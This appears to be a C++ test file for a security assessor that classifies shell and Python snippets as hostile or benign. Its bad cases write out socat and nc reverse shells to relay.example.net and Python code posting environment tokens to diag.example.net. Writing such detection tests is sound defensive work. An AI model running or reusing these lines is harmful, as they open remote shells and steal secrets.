// The classes the thirty-ninth round modelled (issue 14), found by programs
// written from the rubric alone by writers who never saw the assessor
// (tests/corpus/prog43_MANIFEST.tsv): telephony and messaging gateways,
// robotics and vehicles, research and OSINT tooling, everyday system
// administration, and defensive security tooling. Its aside scored 29/29
// before any change; the classes below came from its tune part (69/71
// before). Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// `command -v bash` prints the shell's path, as `which bash` does: a shell
// found that way and wired to a relay is a reverse shell.
TEST(ThirtyNinthRoundClasses, CommandVPrintsThePath) {
  const Case cases[] = {
      {"socat to a TLS relay running a shell found by command -v", B,
       "#!/bin/bash\nb=\"$(command -v bash || command -v sh)\"\n"
       "socat \"OPENSSL:relay.example.net:8443,verify=0\" \"EXEC:${b} -li,pty,stderr,setsid\"\n",
       "REVERSE-SHELL", SH},
      {"a shell found by command -v between a FIFO and nc", B,
       "#!/bin/bash\nb=\"$(command -v bash)\"\nmkfifo /tmp/f\n\"$b\" -i < /tmp/f 2>&1 | nc relay.example.net 8443 > /tmp/f\n",
       "REVERSE-SHELL", SH},
      {"a tool found by command -v and run on a local file", L,
       "#!/bin/bash\njq_bin=\"$(command -v jq)\"\n\"$jq_bin\" '.items | length' report.json\n", nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// An instance as a dict (dataclasses.asdict, vars(obj), obj.__dict__) holds
// its attributes, and a dataclass's fields that kept their class default
// (field(default_factory=dict)) with what methods put in them.
TEST(ThirtyNinthRoundClasses, AnInstanceAsADict) {
  const Case cases[] = {
      {"environment secrets gathered into a dataclass field, posted as asdict", B,
       "import os, requests\nfrom dataclasses import dataclass, asdict, field\n"
       "@dataclass\nclass Diag:\n    host: str = 'x'\n    runtime: dict = field(default_factory=dict)\n"
       "    def gather(self):\n"
       "        for k, v in os.environ.items():\n"
       "            if 'TOKEN' in k:\n"
       "                self.runtime[k] = v\n"
       "        return self\n"
       "requests.post('https://diag.example.net/in', json=asdict(Diag().gather()), timeout=5)\n",
       "EXFILTRATION"},
      {"the same kept in an attribute, posted as vars()", B,
       "import os, requests\nclass Diag:\n    def __init__(self):\n        self.runtime = {}\n"
       "    def gather(self):\n        for k, v in os.environ.items():\n            self.runtime[k] = v\n"
       "        return self\n"
       "requests.post('https://diag.example.net/in', json=vars(Diag().gather()), timeout=5)\n",
       "EXFILTRATION"},
      {"the same posted as __dict__", B,
       "import os, requests\nclass Diag:\n    def __init__(self):\n        self.runtime = dict(os.environ)\n"
       "requests.post('https://diag.example.net/in', json=Diag().__dict__, timeout=5)\n",
       "EXFILTRATION"},
      {"versions gathered into a dataclass field, posted as asdict", L,
       "import platform, requests\nfrom dataclasses import dataclass, asdict, field\n"
       "@dataclass\nclass Diag:\n    runtime: dict = field(default_factory=dict)\n"
       "    def gather(self):\n        self.runtime['python'] = platform.python_version()\n        return self\n"
       "requests.post('https://diag.example.net/in', json=asdict(Diag().gather()), timeout=5)\n"},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
